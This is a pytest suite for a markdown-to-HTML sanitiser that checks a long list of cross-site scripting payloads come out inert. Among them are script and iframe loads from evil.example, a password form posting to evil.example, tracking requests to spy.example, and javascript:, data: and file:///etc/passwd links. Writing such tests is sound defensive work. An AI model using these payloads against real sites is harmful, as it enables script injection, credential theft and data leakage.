"""Nothing that an article holds can run, load or pretend to be a part of the page."""

import ast
import re
from contextlib import suppress
from pathlib import Path
from xml.etree.ElementTree import Element

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from clipfile.model import SafeHtml
from clipfile.reading import sanitising
from clipfile.reading.markup import Markup, MarkupError
from clipfile.reading.sanitising import ID_PREFIX, as_text, linked, sanitise

TAGS = set(
    "a abbr b blockquote br caption cite code dd del details dfn div dl dt em h1 h2 h3 h4 h5 h6 hr "
    "i img ins kbd li mark ol p pre q s samp section small span strong sub summary sup table tbody "
    "td tfoot th thead tr u ul var".split()
)
"""Written out a second time: what may stand in a page is a decision, not a consequence."""
ATTRIBUTES = set("href title id rel src alt start colspan rowspan scope lang dir class".split())
CLASSES = set("admonition note warning footnote admonition-title footnote-ref".split()) | {
    "footnote-backref"
}
SCHEMES = {"http", "https", "mailto", "photo"}
MARKUP = Markup(
    "toc tables abbr admonition attr_list footnotes smarty pymdownx.superfences".split()
)


def faults(html: str) -> list[str]:
    """What a browser would make of `html` that no article may have, a line each."""
    fragment: Element = html5lib.parseFragment(html, namespaceHTMLElements=False)
    found = []
    for element in fragment.iter():
        if element.tag == "DOCUMENT_FRAGMENT":
            continue
        if element.tag not in TAGS:
            found.append(f"<{element.tag}>")
            continue
        for name, value in element.attrib.items():
            if name not in ATTRIBUTES:
                found.append(f"{element.tag} {name}")
            if name == "class" and not set(value.split()) <= CLASSES:
                found.append(f"class {value}")
            if name == "id" and not value.startswith(ID_PREFIX):
                found.append(f"id {value}")
            if name in {"href", "src"} and scheme_of(value) not in {"", *SCHEMES}:
                found.append(f"{name} {value}")
    return found


def scheme_of(address: str) -> str:
    """The scheme as browsers find it (WHATWG URL, basic parser): tabs and line ends are nothing."""
    seen = address.strip(CONTROLS_AND_SPACE).translate(dict.fromkeys(map(ord, "\t\n\r")))
    match = re.match(r"([a-z][a-z0-9+.-]*):", seen, re.ASCII | re.IGNORECASE)
    return match[1].casefold() if match else ""


CONTROLS_AND_SPACE = "".join(map(chr, range(33)))
PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script>alert(1)",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<p onclick=alert(1)>Ada</p>",
    "<p/onmouseover=alert(1)>Ada",
    "<a href=javascript:alert(1)>Ada</a>",
    "<a href=' &#14; javascript:alert(1)'>Ada</a>",
    "<a href='jav\tascript:alert(1)'>Ada</a>",
    "<a href='java&#x0A;script:alert(1)'>Ada</a>",
    "<a href='JAVASCRIPT&colon;alert(1)'>Ada</a>",
    "<a href='vbscript:msgbox(1)'>Ada</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>Ada</a>",
    "<a href='file:///etc/passwd'>Ada</a>",
    "<a href='blob:x'>Ada</a>",
    "<a href=https://a.example target=_blank ping=//spy.example download>Ada</a>",
    "<q cite='javascript:alert(1)'>Ada</q>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img srcset='//spy.example/x 1x' src=photo:1>",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>body{background:url(//spy.example)}</style>",
    "<p style='position:fixed;inset:0'>Ada</p>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=password><button>Log in</button></form>",
    "<video src=//spy.example autoplay onplay=alert(1)></video>",
    "<audio src=//spy.example></audio>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><?php system('ls') ?>",
    "<details open ontoggle=alert(1)><summary>Ada</summary></details>",
    "<body onload=alert(1)><html onclick=alert(1)>",
    "<x-widget onclick=alert(1)>Ada</x-widget>",
    "<div class='md-header admonition' id=__search>Ada</div>",
    "<a id=location name=location>Ada</a>",
    "<p data-md-component=search>Ada</p>",
    "<p contenteditable autofocus tabindex=0 accesskey=x draggable=true>Ada</p>",
    '<a title="<script>alert(1)</script>" href="https://a.example">Ada</a>',
    "<table><td background=//spy.example><caption onclick=alert(1)>",
    "<p title=`onmouseover=alert(1)`>Ada</p>",
    "</p></div></article><script>alert(1)</script>",
    "[Ada](javascript:alert(1))",
    "[Ada](<javascript:alert(1)>)",
    "[Ada](JaVaScRiPt:alert(1))",
    "[Ada](&#106;avascript:alert(1))",
    "[Ada](java\\script:alert(1))",
    "[Ada](data:text/html;base64,PHNjcmlwdD4=)",
    '[Ada](https://a.example "x\\" onclick=alert(1)")',
    "<javascript:alert(1)>",
    "[Ada]: javascript:alert(1)\n\n[Ada]",
    "Ada{: onclick=alert(1) style=color:red class=md-header id=__search }",
    "# Ada {: onclick=alert(1) }",
    "[Ada](https://a.example){: onclick=alert(1) target=_blank }",
    "!!! md-header\n    Ada",
    "```{.js onclick=alert(1)}\nalert(1)\n```",
    "Ada[^<script>]\n\n[^<script>]: <img src=x onerror=alert(1)>",
    "*[Ada]: <script>alert(1)</script>\n\nAda",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_is_inert(payload: str) -> None:
    for source in (payload, f"Ada {payload} Quill", f"- {payload}\n\n> {payload}"):
        assert faults(MARKUP.to_html(source)) == []
        assert faults(sanitise(source)) == []


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("<script>x</script>", "<script>"),
        ("<p onclick=x>", "p onclick"),
        ("<a href='\x01java\tscript:x'>", "href \x01java\tscript:x"),
        ("<div class=md-header>", "class md-header"),
        ("<p id=top>", "id top"),
        ("<svg></svg>", "<{http://www.w3.org/2000/svg}svg>"),
    ],
)
def test_the_walk_itself_sees_what_is_wrong(html: str, expected: str) -> None:
    assert expected in faults(html)


SCRAPS = st.sampled_from(
    [
        *"< > </ /> ' \" = & ; ` / ! -- <!-- --> <![CDATA[ ]]> \\ \n \t \0 [ ] ( ) * _ # { }".split(
            " "
        ),
        *"<script> </script> <svg> <math> <style> </style> <img <a <p <div <table> <td>".split(),
        *"src= href= onclick= onerror= id= class= title= style= alert(1) javascript: data:".split(),
        *"photo:1 https://a.example a.md #top &#106; &lt; &amp; &nbsp; Ada é 大 text-".split(),
        *"<template> <noscript> <title> <textarea> <select> <mtext> <mglyph> <br> </p>".split(),
    ]
)
SOUP = st.lists(SCRAPS, max_size=25).map("".join) | st.text(max_size=60)


@settings(max_examples=300, deadline=None)
@given(SOUP)
def test_no_soup_of_tags_makes_anything_that_is_not_allowed(soup: str) -> None:
    assert faults(sanitise(soup)) == []
    with suppress(MarkupError):
        assert faults(MARKUP.to_html(soup)) == []


@settings(max_examples=300, deadline=None)
@given(SOUP)
def test_what_is_clean_stays_as_it_is(soup: str) -> None:
    """But for the prefix of ids, which is put before every one, whatever it begins with."""
    once = sanitise(soup)
    twice = sanitise(once)
    assert twice.replace(ID_PREFIX, "") == once.replace(ID_PREFIX, "")


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        (
            '<h2 id="search">Ada</h2><p><a href="#search">up</a></p>',
            '<h2 id="text-search">Ada</h2><p><a href="#text-search" rel="noopener">up</a></p>',
        ),
        ("<p>Ada<p>Bela", "<p>Ada</p><p>Bela</p>"),
        ("Ada < Bela & Cora", "Ada &lt; Bela &amp; Cora"),
        ("<script>alert(1)</script>Ada", "Ada"),
        ("<form>Ada</form>", "Ada"),
        ('<p lang="el" dir="rtl">Άννα</p>', '<p lang="el" dir="rtl">Άννα</p>'),
        ('<div class="admonition md-header">Ada</div>', '<div class="admonition">Ada</div>'),
    ],
)
def test_what_is_allowed_stays(html: str, expected: str) -> None:
    assert sanitise(html) == expected


def test_text_is_shown_as_it_is() -> None:
    assert as_text("<b>\"Ada\" & 'Bela'</b>") == (
        "&lt;b&gt;&quot;Ada&quot; &amp; &#x27;Bela&#x27;&lt;/b&gt;"
    )


def test_an_address_cannot_end_its_attribute() -> None:
    html = linked('../ada"onclick="alert(1)/', SafeHtml("Ada"))
    assert html == '<a class="cf-mention" href="../ada&quot;onclick=&quot;alert(1)/">Ada</a>'


def minted(source: str) -> list[str]:
    """The expressions of which `source` makes `SafeHtml`; the empty text is always safe."""
    calls = (node for node in ast.walk(ast.parse(source)) if isinstance(node, ast.Call))
    return [
        ast.unparse(call)
        for call in calls
        if ast.unparse(call.func).endswith(("SafeHtml", "cast"))
        and "SafeHtml" in ast.unparse(call)
        and [ast.unparse(argument) for argument in call.args] != ["''"]
    ]


def test_only_one_file_makes_html_safe() -> None:
    here = Path(sanitising.__file__)
    package = here.parents[1]
    makers = {
        file.relative_to(package).as_posix()
        for file in package.rglob("*.py")
        if minted(file.read_text("utf-8"))
    }
    assert makers == {"reading/sanitising.py"}


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("SafeHtml(x)", ["SafeHtml(x)"]),
        ("model.SafeHtml('<b>')", ["model.SafeHtml('<b>')"]),
        ("cast(SafeHtml, x)", ["cast(SafeHtml, x)"]),
        ("SafeHtml('')", []),
        ("cast(str, x)", []),
    ],
)
def test_making_html_safe_elsewhere_is_seen(source: str, expected: list[str]) -> None:
    assert minted(source) == expected
